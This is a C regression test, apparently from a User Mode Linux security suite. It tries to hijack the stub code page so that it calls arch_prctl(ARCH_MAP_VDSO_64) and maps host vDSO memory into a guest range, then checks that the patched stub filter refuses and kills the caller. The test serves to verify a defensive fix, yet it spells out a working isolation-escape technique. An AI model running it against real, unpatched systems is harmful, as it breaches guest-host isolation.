// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: create a host mapping with arch_prctl from the stub code page.
 *
 * The stub filter allows arch_prctl from the code page with any first
 * argument, because the stub restores FS/GS with it. But arch_prctl also
 * has codes that create mappings: ARCH_MAP_VDSO_64 (0x2003, meant for
 * checkpoint/restore) maps the host's vDSO at a given address, provided
 * the process has no vDSO, which holds for a stub process because UML
 * unmaps everything below the stub when it creates an address space.
 * (The shadow-stack codes also map memory, but only on hosts with user
 * shadow stacks enabled, so they are less portable for a demonstration.)
 *
 * A child maps anonymous read/write memory in the guest and does not
 * touch it: the guest kernel has a VMA there but no PTE, so UML has not
 * mapped anything on the host and expects zero-filled pages on first
 * touch. The child then issues arch_prctl(ARCH_MAP_VDSO_64, addr) into
 * that range through the hijack primitive. On a 6.x host the vDSO is
 * placed as a few data pages ("vvar") followed by the vDSO's ELF image;
 * the child looks for the ELF magic in the range, scanning from the top
 * down with fault-guarded reads, so it meets the ELF pages before it
 * could touch a vvar page (some of which raise SIGBUS when read). Pages
 * of the range that the vDSO does not cover just fault in as zeros.
 *
 * Verdict line: "succeeded" when arch_prctl did not fail and the ELF
 * magic is readable where the guest has only untouched anonymous
 * memory, a mapping no guest PTE grants (a 6.18 host returns the vDSO
 * text size, 8192, rather than 0 on success, so any non-negative result
 * counts as success); "refused" when arch_prctl returned an error or the
 * child was killed before it could report; anything else is
 * "inconclusive".
 *
 * Pass (the patched behaviour): the call is refused; the kernel counted
 * it (the stub filter kills the process, which UML finds dead: stub_stats
 * stub_kills grew across the call); a child that was not killed still
 * runs fork + exec + wait; the parent runs fork + exec + wait afterwards.
 */
#include <sys/mman.h>
#include <sys/syscall.h>
#include "tap.h"
#include "exec_helpers.h"
#include "hijack.h"
#include "stub_stats.h"

#define NAME		"arch_prctl"
#define ARCH_MAP_VDSO_64_CODE 0x2003	/* asm/prctl.h: ARCH_MAP_VDSO_64 */
#define AREA_PAGES	64
#define VDSO_AT_PAGE	16		/* where in the area to ask for it */
#define SCAN_PAGES	32		/* how far above that to look */
#define CHILD_DEADLINE_S 60

enum stage { NOT_STARTED, STUB_FOUND, CALLED, WORK_DONE };

struct report {
	volatile long stage;
	volatile long result;		/* raw arch_prctl result */
	volatile unsigned long target;
	volatile unsigned long elf_at;	/* 0: no ELF magic found */
	volatile long work_ok;
	char why[256];
	struct stub_stats before;	/* right before the attacking call */
};

_Static_assert(sizeof(struct report) <= HIJACK_PAGE_SIZE,
	       "the report fits the shared page");

/* Lowest page holding ELF magic, scanning [from, from + pages) downward. */
static unsigned long find_elf(unsigned long from, unsigned long pages)
{
	unsigned long i;

	for (i = pages; i-- > 0;) {
		unsigned long page = from + i * HIJACK_PAGE_SIZE;

		if (hijack_can_read(page) &&
		    memcmp((const void *)page, "\177ELF", 4) == 0)
			return page;
	}
	return 0;
}

static void child(struct report *r, const char *helper)
{
	struct stub_hijack h;
	unsigned long area;

	r->stage = NOT_STARTED;		/* fault the shared page in now */
	if (hijack_init(&h))
		_exit(2);
	r->stage = STUB_FOUND;

	/* Mapped in the guest, never touched: no PTE, nothing on the host. */
	area = (unsigned long)mmap(NULL, AREA_PAGES * HIJACK_PAGE_SIZE,
				   PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (area == (unsigned long)MAP_FAILED)
		_exit(3);
	r->target = area + VDSO_AT_PAGE * HIJACK_PAGE_SIZE;

	stub_stats_read(&r->before);
	r->result = hijack_syscall6(&h, SYS_arch_prctl, ARCH_MAP_VDSO_64_CODE,
				    r->target, 0, 0, 0, 0);
	r->stage = CALLED;
	if (r->result >= 0)
		r->elf_at = find_elf(r->target, SCAN_PAGES);

	r->work_ok = run_once(helper, r->why, sizeof(r->why)) == 0;
	r->stage = WORK_DONE;
	_exit(0);
}

int main(int argc, char **argv)
{
	char helper[PATH_MAX], why[256] = "";
	int status = 0, refused, killed, rc;
	struct stub_stats after;
	struct report *r;
	pid_t pid, got;

	(void)argc;
	helper_path(argv[0], helper, sizeof(helper));
	tap_plan(5);

	r = hijack_shared_page();
	if (!r) {
		tap_diag("shared page: %s", strerror(errno));
		hijack_attack_line(NAME, "inconclusive", "no shared page");
		return EXIT_FAILURE;
	}

	pid = fork();
	if (pid == 0)
		child(r, helper);
	if (pid < 0) {
		tap_diag("fork: %s", strerror(errno));
		hijack_attack_line(NAME, "inconclusive", "fork failed");
		return EXIT_FAILURE;
	}
	got = hijack_wait(pid, &status, CHILD_DEADLINE_S);
	stub_stats_read(&after);
	killed = got == pid && WIFSIGNALED(status);
	if (got == 0)
		tap_diag("child did not finish within %d s", CHILD_DEADLINE_S);
	else if (killed)
		tap_diag("child killed by signal %d at stage %ld",
			 WTERMSIG(status), r->stage);
	else
		tap_diag("child exited with %d at stage %ld",
			 WEXITSTATUS(status), r->stage);

	tap_result(r->stage >= STUB_FOUND, "hijack found the stub");

	if (r->stage < STUB_FOUND) {
		hijack_attack_line(NAME, "inconclusive",
				   "the stub was not found");
		refused = 0;
	} else if (r->stage < CALLED && killed) {
		hijack_attack_line(NAME, "refused",
				   "child killed by signal %d during arch_prctl",
				   WTERMSIG(status));
		refused = 1;
	} else if (r->stage < CALLED) {
		hijack_attack_line(NAME, "inconclusive",
				   "child stopped before arch_prctl returned");
		refused = 0;
	} else if (r->result >= 0 && r->elf_at) {
		hijack_attack_line(NAME, "succeeded",
				   "arch_prctl(ARCH_MAP_VDSO_64, %#lx) from the "
				   "stub page returned %ld; ELF magic readable at "
				   "%#lx, where the guest has untouched "
				   "anonymous memory",
				   r->target, r->result, r->elf_at);
		refused = 0;
	} else if (r->result >= 0) {
		hijack_attack_line(NAME, "inconclusive",
				   "arch_prctl(ARCH_MAP_VDSO_64, %#lx) returned "
				   "%ld but no ELF magic within %d pages",
				   r->target, r->result, SCAN_PAGES);
		refused = 0;
	} else {
		hijack_attack_line(NAME, "refused",
				   "arch_prctl(ARCH_MAP_VDSO_64, %#lx) from the "
				   "stub page returned %ld (%s)", r->target,
				   r->result, strerror((int)-r->result));
		refused = 1;
	}
	tap_result(refused, "arch_prctl(ARCH_MAP_VDSO_64) from the stub page "
		   "refused");
	stub_stats_expect_growth(&r->before, &after, "stub_kills",
				 "the killed arch_prctl caller");

	if (r->stage == WORK_DONE && !r->work_ok)
		tap_diag("attacking process: %s", r->why);
	tap_result(killed ? r->stage < CALLED :
		   r->stage == WORK_DONE && r->work_ok,
		   "attacking process was killed or kept running "
		   "(fork+exec)");

	rc = run_once(helper, why, sizeof(why));
	if (rc)
		tap_diag("%s", why);
	tap_result(rc == 0, "parent still runs fork+exec+wait");
	return tap_exit_status();
}
